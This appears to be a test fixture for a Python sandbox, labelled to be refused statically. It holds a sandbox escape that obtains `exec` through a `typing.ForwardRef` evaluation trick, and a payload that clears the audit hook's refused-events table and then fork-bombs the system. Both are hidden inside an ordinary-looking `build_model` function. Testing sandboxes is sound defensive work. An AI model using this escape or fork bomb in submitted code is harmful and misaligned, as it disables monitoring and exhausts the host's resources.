# expect: static
# message: private attribute `typing.ForwardRef(
# payload: os_fork_bomb
# The whole chain: the ForwardRef escape hands out `exec`, the payload empties the audit hook's
# tables (no longer possible: the hook binds them as closure locals) and forks until RLIMIT_NPROC
# refuses. Refused statically (private attribute); the payload runs at the OS layer as os_fork_bomb
# (and the rebinding as os_unhook_globals).
import math
import typing

import torch.nn as nn

CHAIN = """
import os, signal, sys
limits = sys.modules['sandbox.limits']
limits._REFUSED_EVENTS = ()
while True:
    if os.fork() == 0:
        signal.pause()
        os._exit(0)
"""


def _builtin(name):
    box = []
    typing.ForwardRef(f"[box.append({name}), int][1]")._evaluate({"box": box}, None, frozenset())
    return box[0]


def build_model(input_shape, num_classes):
    _builtin("exec")(CHAIN, {})
    return nn.Sequential(nn.Flatten(), nn.Linear(math.prod(input_shape), num_classes))
